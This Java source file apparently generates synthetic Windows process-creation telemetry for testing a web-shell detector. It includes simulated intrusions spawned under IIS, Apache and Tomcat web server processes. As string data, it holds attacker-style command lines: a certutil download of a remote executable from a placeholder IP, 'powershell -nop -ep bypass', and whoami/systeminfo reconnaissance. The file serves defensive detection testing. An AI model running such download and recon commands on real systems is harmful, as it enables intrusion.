package dev.webshell.detector.generator;

import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Windows process telemetry as a host's event log holds it, for the Sysmon, Winlogbeat, ECS and
 * Windows Security outputs of {@code generate}: process creations with their parent, on web servers
 * (IIS {@code w3wp.exe} under {@code svchost.exe}, Apache {@code httpd.exe} and Tomcat under {@code
 * services.exe}, Tomcat as {@code java.exe} running Catalina) and workstations, benign lineages
 * (including {@code w3wp.exe → csc.exe → cvtres.exe}), web-shell intrusions whose shell is the web
 * server's child or grandchild ({@code w3wp.exe → cmd.exe → powershell.exe whoami}), orphans (a
 * process whose parent's creation was never logged), and records of other event types.
 *
 * <p>Each host's long-lived processes (services, svchost, the web server) started before its log
 * begins: their creations are not in the stream, as in a real log. A creation is emitted before any
 * creation of its children; {@link #disorder} lets records arrive late, as collectors that spread
 * one host over partitions deliver them. Deterministic for a given seed.
 */
public final class ProcessTreeTraffic {
  /** A process as the event log names it. */
  public record Proc(String guid, long pid, String image, String commandLine, String user) {
    public String fileName() {
      int cut = Math.max(image.lastIndexOf('\\'), image.lastIndexOf('/'));
      return image.substring(cut + 1);
    }
  }

  /** What a record reports. */
  public enum Kind {
    /** A process creation: Sysmon event 1, Security 4688. */
    CREATE,
    /** Sysmon event 3 / Security 5156: a network connection by {@code process}. */
    NETWORK,
    /** Sysmon event 11: a file created by {@code process}. */
    FILE,
    /** Sysmon event 5 / Security 4689: {@code process} ended. */
    TERMINATE,
    /** An Exchange "MSExchange CmdletLogs" record, which also has event id 1. */
    EXCHANGE_CMDLET
  }

  /**
   * One record: {@code process} (created, or acting) on {@code host}, with its {@code parent} for a
   * creation.
   */
  public record Record(
      Kind kind,
      int hostIndex,
      String host,
      long utcMicros,
      long recordId,
      Proc process,
      Proc parent) {}

  private enum Role {
    IIS,
    APACHE,
    TOMCAT,
    CATALINA_JAVA,
    WORKSTATION
  }

  private static final class Host {
    final int index;
    final String name;
    final Role role;
    final List<Proc> services = new ArrayList<>();
    Proc services0;
    Proc web;
    Proc webParent;
    Proc explorer;
    long nextRecord = 1000;

    Host(int index, String name, Role role) {
      this.index = index;
      this.name = name;
      this.role = role;
    }
  }

  private record Step(long at, Host host, Proc parentOrNull, Proc child, boolean logged) {}

  /** A record held back until {@code release} records have been produced. */
  private record Late(long release, Record record) {}

  private final Random random;
  private final Host[] hosts;
  private final double scenariosPerEvent;
  private final double disorder;
  private final Deque<Step> pending = new ArrayDeque<>();
  private final List<Late> late = new ArrayList<>();
  private final Deque<Record> ready = new ArrayDeque<>();
  private long emitted;
  private long scenarios;
  private long guidCounter;

  /**
   * @param scenariosPerEvent chance, per record, that a web-shell intrusion starts
   * @param disorder chance that a record is held back and arrives a few records later
   */
  public ProcessTreeTraffic(long seed, int hosts, double scenariosPerEvent, double disorder) {
    this.random = new Random(seed);
    int n = Math.max(1, hosts);
    this.hosts = new Host[n];
    for (int i = 0; i < n; i++) {
      this.hosts[i] = newHost(i);
    }
    this.scenariosPerEvent = scenariosPerEvent;
    this.disorder = disorder;
  }

  public long scenarios() {
    return scenarios;
  }

  /**
   * Host {@code i}: every 5th is a web server (IIS, Apache, Tomcat, Tomcat on java.exe in turn).
   */
  public static String hostName(int i) {
    if (i % 5 != 0) {
      return String.format(Locale.ROOT, "WS%05d.contoso.local", i);
    }
    String[] prefix = {"EXCH", "APACHE", "TOMCAT", "JAVAWEB"};
    return String.format(Locale.ROOT, "%s%02d.contoso.local", prefix[(i / 5) % 4], i / 5);
  }

  private Host newHost(int i) {
    Role role =
        i % 5 != 0
            ? Role.WORKSTATION
            : switch ((i / 5) % 4) {
              case 0 -> Role.IIS;
              case 1 -> Role.APACHE;
              case 2 -> Role.TOMCAT;
              default -> Role.CATALINA_JAVA;
            };
    Host h = new Host(i, hostName(i), role);
    String system = "NT AUTHORITY\\SYSTEM";
    h.services0 =
        proc(
            h,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            system);
    Proc svchost =
        proc(
            h,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
            system);
    h.services.add(svchost);
    switch (role) {
      case IIS -> {
        h.webParent =
            proc(
                h,
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k iissvcs",
                system);
        h.web = w3wp(h);
      }
      case APACHE -> {
        h.webParent = h.services0;
        h.web =
            proc(
                h,
                "C:\\Apache24\\bin\\httpd.exe",
                "\"C:\\Apache24\\bin\\httpd.exe\" -k runservice",
                system);
      }
      case TOMCAT -> {
        h.webParent = h.services0;
        h.web =
            proc(
                h,
                "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe",
                "\"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe\""
                    + " //RS//Tomcat9",
                "NT AUTHORITY\\LOCAL SERVICE");
      }
      case CATALINA_JAVA -> {
        h.webParent =
            proc(
                h,
                "C:\\Windows\\System32\\cmd.exe",
                "cmd /c \"C:\\tomcat\\bin\\startup.bat\"",
                "CONTOSO\\svc_tomcat");
        h.web =
            proc(
                h,
                "C:\\Program Files\\Java\\jdk-17\\bin\\java.exe",
                "\"C:\\Program Files\\Java\\jdk-17\\bin\\java.exe\" -Dcatalina.home=C:\\tomcat"
                    + " -classpath C:\\tomcat\\bin\\bootstrap.jar org.apache.catalina.startup.Bootstrap"
                    + " start",
                "CONTOSO\\svc_tomcat");
      }
      case WORKSTATION ->
          h.explorer =
              proc(h, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CONTOSO\\jdoe");
    }
    return h;
  }

  private Proc w3wp(Host h) {
    return proc(
        h,
        "c:\\windows\\system32\\inetsrv\\w3wp.exe",
        "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -c"
            + " \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config\""
            + " -a \\\\.\\pipe\\iisipm"
            + Long.toHexString(random.nextLong() & 0xffffffffL)
            + " -h"
            + " \"C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config\" -w \"\" -m 0",
        "IIS APPPOOL\\MSExchangeOWAAppPool");
  }

  private Proc proc(Host h, String image, String commandLine, String user) {
    guidCounter++;
    String guid =
        String.format(
            Locale.ROOT,
            "{%08X-%04X-%04X-%04X-%012X}",
            0x5a17c300 + h.index,
            (int) ((guidCounter * 7919) & 0xffff),
            0x6000 + (int) (guidCounter >>> 16 & 0xfff),
            (int) (guidCounter & 0xffff),
            0x000000001000L + h.index);
    long pid = 4L * (1 + random.nextInt(16_000));
    return new Proc(guid, pid, image, commandLine, user);
  }

  /** The next record, stamped {@code utcMicros}. */
  public Record next(long utcMicros) {
    while (ready.isEmpty()) {
      produce(utcMicros);
    }
    return ready.removeFirst();
  }

  private void produce(long utcMicros) {
    emitted++;
    // records held back: released once their turn has come
    for (int i = 0; i < late.size(); ) {
      if (late.get(i).release() <= emitted) {
        ready.addLast(late.remove(i).record());
      } else {
        i++;
      }
    }
    if (scenariosPerEvent > 0 && random.nextDouble() < scenariosPerEvent) {
      startIntrusion(webHost(), random.nextInt(4));
    }
    Step due = pending.peekFirst();
    Record r;
    if (due != null && due.at() <= emitted) {
      pending.removeFirst();
      if (!due.logged()) {
        return; // an orphan's parent: created, never logged
      }
      r = creation(due.host(), utcMicros, due.child(), due.parentOrNull());
    } else {
      r = benign(hosts[random.nextInt(hosts.length)], utcMicros);
    }
    if (disorder > 0 && random.nextDouble() < disorder) {
      late.add(new Late(emitted + 1 + random.nextInt(20), r));
    } else {
      ready.addLast(r);
    }
  }

  private Host webHost() {
    int webs = (hosts.length + 4) / 5;
    return hosts[random.nextInt(webs) * 5];
  }

  private Record creation(Host h, long micros, Proc child, Proc parent) {
    return new Record(Kind.CREATE, h.index, h.name, micros, h.nextRecord++, child, parent);
  }

  private Record benign(Host h, long micros) {
    int dice = random.nextInt(100);
    String system = "NT AUTHORITY\\SYSTEM";
    if (dice < 12) {
      Proc actor = h.web != null ? h.web : h.explorer != null ? h.explorer : h.services.get(0);
      Kind kind = dice < 5 ? Kind.NETWORK : dice < 10 ? Kind.FILE : Kind.TERMINATE;
      return new Record(kind, h.index, h.name, micros, h.nextRecord++, actor, null);
    }
    if (dice < 15 && h.role == Role.IIS) {
      return new Record(Kind.EXCHANGE_CMDLET, h.index, h.name, micros, h.nextRecord++, h.web, null);
    }
    Proc conhostParent = h.services.get(random.nextInt(h.services.size()));
    if (dice < 35) {
      return creation(
          h,
          micros,
          proc(
              h,
              "C:\\Windows\\System32\\conhost.exe",
              "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
              system),
          conhostParent);
    }
    if (dice < 45) {
      Proc svc =
          proc(
              h,
              "C:\\Windows\\System32\\svchost.exe",
              "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s "
                  + (random.nextBoolean() ? "W32Time" : "BITS"),
              system);
      if (h.services.size() < 6) {
        h.services.add(svc);
      }
      return creation(h, micros, svc, h.services0);
    }
    switch (h.role) {
      case IIS -> {
        if (dice < 60) {
          // ASP.NET compiles a page: w3wp → csc.exe → cvtres.exe, a web server's benign grandchild
          Proc csc =
              proc(
                  h,
                  "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                  "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig"
                      + " /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary"
                      + " ASP.NET Files\\owa\\c1b2\\x.cmdline\"",
                  h.web.user());
          Proc cvtres =
              proc(
                  h,
                  "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe",
                  "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY"
                      + " /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES11A5.tmp\"",
                  h.web.user());
          pending.addLast(new Step(nextAt(), h, csc, cvtres, true));
          return creation(h, micros, csc, h.web);
        }
        if (dice < 65) {
          // the application pool recycles: a new w3wp.exe under svchost.exe -k iissvcs
          h.web = w3wp(h);
          return creation(h, micros, h.web, h.webParent);
        }
        if (dice < 70) {
          return creation(
              h,
              micros,
              proc(
                  h,
                  "C:\\Windows\\System32\\cmd.exe",
                  "cmd /c echo ok > C:\\inetpub\\logs\\health.txt",
                  h.web.user()),
              h.web);
        }
      }
      case APACHE -> {
        if (dice < 65) {
          return creation(
              h, micros, proc(h, "C:\\php\\php-cgi.exe", "C:\\php\\php-cgi.exe", system), h.web);
        }
      }
      case TOMCAT, CATALINA_JAVA -> {
        if (dice < 60) {
          return creation(
              h,
              micros,
              proc(
                  h,
                  "C:\\Windows\\System32\\cmd.exe",
                  "cmd /c C:\\tomcat\\bin\\rotate-logs.bat",
                  h.web.user()),
              h.web);
        }
      }
      case WORKSTATION -> {
        if (dice < 75) {
          return creation(
              h,
              micros,
              proc(
                  h,
                  "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                  "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
                  h.explorer.user()),
              h.explorer);
        }
        if (dice < 85) {
          // an administrator's own shell: the same commands as an intrusion, not from a web server
          return creation(
              h,
              micros,
              proc(
                  h,
                  "C:\\Windows\\System32\\cmd.exe",
                  "cmd.exe /c ipconfig /all & whoami",
                  h.explorer.user()),
              h.explorer);
        }
      }
    }
    return creation(
        h,
        micros,
        proc(h, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", system),
        h.services.get(0));
  }

  /**
   * Starts an intrusion on web server {@code h}: kind 0 a shell directly under the web server, 1
   * the grandparent case (web server → cmd.exe → powershell.exe), 2 both, 3 an orphan (a shell
   * whose parent's creation is never logged).
   */
  public void startIntrusion(int hostIndex, int kind) {
    startIntrusion(hosts[Math.min(hosts.length - 1, Math.max(0, hostIndex))], kind);
  }

  private void startIntrusion(Host h, int kind) {
    if (h.web == null) {
      return;
    }
    scenarios++;
    String user = h.web.user();
    String cmd = "C:\\Windows\\System32\\cmd.exe";
    String ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    if (kind == 0 || kind == 2) {
      String[] lines = {
        "cmd.exe /c whoami",
        "cmd.exe /c \"cd /d C:\\inetpub\\wwwroot && ipconfig /all\"",
        "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/t.txt %TEMP%\\t.exe",
      };
      for (String line : lines) {
        pending.addLast(new Step(nextAt(), h, h.web, proc(h, cmd, line, user), true));
      }
    }
    if (kind == 1 || kind == 2) {
      Proc shell = proc(h, cmd, "cmd.exe /c powershell.exe -nop -ep bypass", user);
      pending.addLast(new Step(nextAt(), h, h.web, shell, true));
      pending.addLast(
          new Step(
              nextAt(), h, shell, proc(h, ps, "powershell.exe -nop -c whoami /all", user), true));
      pending.addLast(
          new Step(
              nextAt(),
              h,
              shell,
              proc(h, ps, "powershell.exe -nop -c \"systeminfo | findstr /B Domain\"", user),
              true));
    }
    if (kind == 3) {
      Proc unseen = proc(h, cmd, "cmd.exe /c powershell.exe", user);
      pending.addLast(new Step(nextAt(), h, h.web, unseen, false));
      pending.addLast(
          new Step(
              nextAt(),
              h,
              unseen,
              proc(h, ps, "powershell.exe -c ping -n 1 10.20.30.40", user),
              true));
    }
  }

  private long nextAt() {
    long last = pending.isEmpty() ? emitted : Math.max(emitted, pending.peekLast().at());
    return last + 1 + random.nextInt(25);
  }
}
